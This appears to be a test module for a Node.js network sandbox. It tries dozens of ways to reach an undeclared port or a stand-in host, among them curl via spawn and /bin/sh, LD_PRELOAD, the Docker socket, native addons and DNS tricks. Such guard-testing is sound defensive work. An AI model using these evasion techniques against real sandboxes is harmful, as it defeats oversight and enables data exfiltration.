// A module that does what it wants, loaded before everything else and before the guard: what it keeps of node's own modules is what
// they were. It waits until the site runs (SIGUSR2), then tries to reach a port on loopback that nothing declares, in every way there
// is, and says what came of each.
import { execFile, fork, spawn, spawnSync } from "node:child_process";
import dgram from "node:dgram";
import dns from "node:dns";
import type { EventEmitter } from "node:events";
import http from "node:http";
import http2 from "node:http2";
import https from "node:https";
import module from "node:module";
import net from "node:net";
import tls from "node:tls";
import threads from "node:worker_threads";

const [undeclared, declared] = process.env["ABIDE_TEST_PORTS"]!.split(",").map(Number) as [number, number];
const url = `http://127.0.0.1:${undeclared}/secret`;
const name = "secret.rogue.example";

// Kept from before the guard.
const { Worker } = threads;
// oxlint-disable-next-line typescript/unbound-method -- unbound is what is tried
const connect = net.Socket.prototype.connect as (this: net.Socket, options: net.TcpNetConnectOpts) => net.Socket;
const kept = {
  fetch,
  Worker,
  lookup: dns.lookup,
  lookupPromise: dns.promises.lookup,
  resolve: dns.promises.resolveTxt,
};

const event = (of: EventEmitter, good: string) =>
  new Promise<unknown>((resolve, reject) => {
    of.once("error", reject);
    of.once(good, () => resolve(good));
  });
const called = (work: (done: (error: Error | null) => void) => void) =>
  new Promise<unknown>((resolve, reject) => work((error) => (error ? reject(error) : resolve("called"))));

const code = `fetch("${url}").then(() => "reached", (error) => error.cause.message).then((said) => require("node:worker_threads").parentPort.postMessage(said));`;
const thread = (make: typeof Worker, options: threads.WorkerOptions) =>
  new Promise<unknown>((resolve, reject) => {
    const worker = new make(code, { eval: true, ...options });
    worker.once("error", reject);
    worker.once("message", (said: string) => (said === "reached" ? resolve(said) : reject(new Error(said))));
  });
const socket = () => {
  const opened = dgram.createSocket("udp4");
  opened.unref();
  return opened;
};

const ways: { readonly [way: string]: () => unknown } = {
  fetch: () => fetch(url),
  "fetch by name": () => fetch(`http://localhost:${undeclared}/`),
  "fetch of a name elsewhere": () => fetch(`http://${name}/`),
  "fetch, kept": () => kept.fetch(url),
  "node:http": () => event(http.get(url), "response"),
  "node:https": () => event(https.get(`https://127.0.0.1:${undeclared}/`), "response"),
  "node:http2": () => event(http2.connect(url), "connect"),
  "node:net": () => event(net.connect(undeclared, "127.0.0.1"), "connect"),
  "node:net, IPv4 in IPv6": () => event(net.connect(undeclared, "::ffff:127.0.0.1"), "connect"),
  "node:net, octal": () => event(net.connect(undeclared, "0177.1"), "connect"),
  "node:net, an answer of its own": () => {
    const lookup = ((_: string, options: { all?: boolean }, done: (...given: unknown[]) => void) =>
      options.all ? done(null, [{ address: "127.0.0.1", family: 4 }]) : done(null, "127.0.0.1", 4)) as never;
    return event(net.connect({ host: "localhost", port: undeclared, lookup }), "connect");
  },
  "node:net, kept": () => {
    const opened = new net.Socket();
    const seen = event(opened, "connect");
    connect.call(opened, { port: undeclared, host: "127.0.0.1" });
    return seen;
  },
  "node:tls": () => event(tls.connect(undeclared, "127.0.0.1"), "secureConnect"),
  "a unix socket": () => event(net.connect("/run/docker.sock"), "connect"),
  WebSocket: () =>
    new Promise((resolve, reject) => {
      const opened = new WebSocket(url.replace("http", "ws"));
      opened.addEventListener("open", resolve);
      opened.addEventListener("error", (event) => reject((event as unknown as { error: Error }).error));
    }),
  "node:dgram": () => called((done) => socket().send("secret", undeclared, "127.0.0.1", done)),
  "node:dgram, connected": () => called((done) => socket().connect(undeclared, "127.0.0.1", done as () => void)),
  "dns.lookup": () => called((done) => dns.lookup(name, done)),
  "dns.lookup, kept": () => called((done) => kept.lookup(name, done)),
  "dns.promises.lookup, kept": () => kept.lookupPromise(name),
  "dns.resolve": () => called((done) => dns.resolve(name, done)),
  "dns.promises.resolveTxt, kept": () => kept.resolve(name),
  "dns.reverse": () => dns.promises.reverse("127.0.0.9"),
  "dns.lookupService": () => dns.promises.lookupService("127.0.0.9", 80),
  "another name server": () => new dns.promises.Resolver().setServers([`127.0.0.1:${undeclared}`]),
  Worker: () => thread(threads.Worker, {}),
  "Worker with options of its own": () =>
    thread(threads.Worker, { execArgv: [], env: { NODE_OPTIONS: "--no-warnings" } }),
  "Worker, kept": () => thread(kept.Worker, {}),
  "module.register": () => module.register(`data:text/javascript,fetch("${url}")`),
  spawn: () => event(spawn("curl", [url]), "exit"),
  spawnSync: () => {
    const { error } = spawnSync(process.execPath, ["-e", `fetch("${url}")`]);
    if (error) throw error;
  },
  execFile: () => called((done) => execFile("/bin/sh", ["-c", `curl ${url}`], done)),
  "a shell that the store may use": () =>
    spawn("/bin/sh", ["-c", 'cd -- "$0"', "/"], { env: { LD_PRELOAD: "/tmp/x.so" } }),
  fork: () => event(fork(process.argv[1]!), "spawn"),
  "process.execve": () => process.execve!("/bin/true", []),
  "a native addon": () => process.dlopen({ exports: {} }, "/tmp/rogue.node"),
};

async function attempt(work: () => unknown): Promise<string> {
  const late = new Promise<string>((resolve) => setTimeout(resolve, 5_000, "nothing within 5 seconds").unref());
  try {
    const done = Promise.resolve(work()).then(() => "reached");
    return await Promise.race([done, late]);
  } catch (error) {
    const { message, cause } = error as Error;
    return cause instanceof Error ? cause.message : message;
  }
}

process.once("SIGUSR2", async () => {
  const said: { [way: string]: string } = {};
  for (const [way, work] of Object.entries(ways)) said[way] = await attempt(work);
  const answer = await fetch(`http://127.0.0.1:${declared}/`);
  process.stdout.write(`\nrogue ${JSON.stringify({ said, declared: await answer.text() })}\n`);
});
process.on("unhandledRejection", () => {});
